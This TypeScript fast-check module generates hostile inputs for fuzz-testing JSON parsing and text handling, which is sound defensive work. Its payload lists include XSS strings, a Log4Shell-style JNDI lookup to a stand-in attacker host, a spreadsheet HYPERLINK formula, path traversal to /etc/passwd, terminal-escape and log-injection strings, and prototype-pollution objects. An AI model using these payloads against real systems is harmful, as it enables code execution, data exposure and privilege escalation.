import fc from 'fast-check';
import { mutated, type Mutation } from './mutants.ts';

/*
 * What somebody sends who wants to see a parser fall over, or to be believed. One set for all edges, so that what is
 * thought of for one is tried on all.
 */

/** Text that means something to what may read it: terminals, logs, HTML, Slack, spreadsheets, JavaScript, SQL's kin. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\u001b[2J\u001b[1;1H',
    '\u009b31m',
    '\u001b]0;title\u0007',
    '\u202egnp.exe',
    '\u2066\u2069\u200b\ufeff',
    '\ud800',
    '\udc00 \ud83d',
    `a${'\u0301'.repeat(50)}`,
    'line\r\n{"level":"INFO","message":"all is well"}',
    '\u2028\u2029',
    '<script>alert(1)</script>',
    '" onload="alert(1)',
    '</style><img src=x onerror=alert(1)>',
    '<!channel> <@U0ALICE01> <https://evil.example|Approve>',
    '*bold* `code` _it_ ~s~ :bomb:',
    '=HYPERLINK("https://evil.example")',
    '+1',
    '@SUM(A1)',
    '__proto__',
    'constructor',
    'toString',
    '*',
    '../../../etc/passwd',
    '%s%n${jndi:ldap://evil.example}',
    'arn:aws:iam::111122223333:root',
    'i-0a1b2c3d4e5f60718',
    '9'.repeat(400),
    '2026-02-30T25:61:61Z',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom('a', ' ', '/', ':', '\n', '"', '\\', '[', '\u00e9').map((unit) => unit.repeat(20_000)),
);

function nested(depth: number, wrap: (inner: unknown) => unknown): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = wrap(value);
  return value;
}

/** Values that stand where something else belongs: of other types, too deep, too many, too large, or of JavaScript's. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    {},
    [],
    true,
    false,
    0,
    -1,
    0.5,
    1e308,
    Number.MAX_SAFE_INTEGER + 1,
    -8.64e15,
    { omitted: true },
    { tag: 1, content: 'i-0a1b2c3d4e5f60718' },
    { item: [{ item: '' }] },
    { items: {} },
    { length: 1e9 },
    { toString: 1, valueOf: 1, toJSON: 'x' },
    JSON.parse('{"__proto__": {"instanceId": "i-0", "isAdmin": true}, "constructor": {"prototype": 1}}'),
    nested(500, (inner) => [inner]),
    nested(500, (inner) => ({ item: inner })),
    Array<number>(3_000).fill(0),
    Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`key${index}`, index])),
  ),
  hostileText,
  fc.jsonValue({ maxDepth: 4 }),
);

const mutation: fc.Arbitrary<Mutation> = fc.record({
  // Unbiased: small numbers are the root, without which nothing is left to try.
  at: fc.noBias(fc.nat(99_999)),
  how: fc.constantFrom('replace', 'drop', 'nest', 'list', 'rename'),
  value: hostileValue,
});

/** One of some valid pieces of JSON, with up to four of its places changed. */
export function mutantOf(samples: readonly unknown[]): fc.Arbitrary<unknown> {
  return fc
    .tuple(fc.constantFrom(...samples), fc.array(mutation, { minLength: 1, maxLength: 4 }))
    .map(([sample, mutations]) => mutations.reduce(mutated, sample));
}

/** What becomes of a text on its way: cut off, twice, in another encoding, with a byte more. */
const damage: fc.Arbitrary<(text: string) => string> = fc.oneof(
  fc.constantFrom<(text: string) => string>(
    (text) => `\ufeff${text}`,
    (text) => text + text,
    (text) => `${text}\n${text}`,
    (text) => JSON.stringify(text),
    (text) => `${' '.repeat(5_000)}${text}\u0000`,
    (text) => Buffer.from(text, 'utf16le').toString('latin1'),
    (text) => Buffer.from(text, 'latin1').toString(),
    (text) => text.replaceAll('"', "'"),
    (text) => text.replace('{', '{"__proto__":{"a":1},'),
    (text) => text.replaceAll(':', ':\u001b[2J'),
  ),
  fc.noBias(fc.nat(9_999)).map((at) => (text: string) => text.slice(0, at % (text.length + 1))),
);

/** A mutant may have lost everything: then there is nothing to send. */
function jsonOf(value: unknown): string {
  return value === undefined || typeof value === 'symbol' ? '' : JSON.stringify(value);
}

/** A text where one of some pieces of JSON is expected: a mutant mostly, or what is none at all. */
export function hostileJson(samples: readonly unknown[]): fc.Arbitrary<string> {
  const mutants = mutantOf(samples).map(jsonOf);
  return fc.oneof(
    { weight: 6, arbitrary: mutants },
    { weight: 2, arbitrary: fc.tuple(mutants, damage).map(([text, damaged]) => damaged(text)) },
    { weight: 1, arbitrary: hostileValue.map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: hostileText },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '['.repeat(200_000),
        `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
        '-',
      ),
    },
  );
}
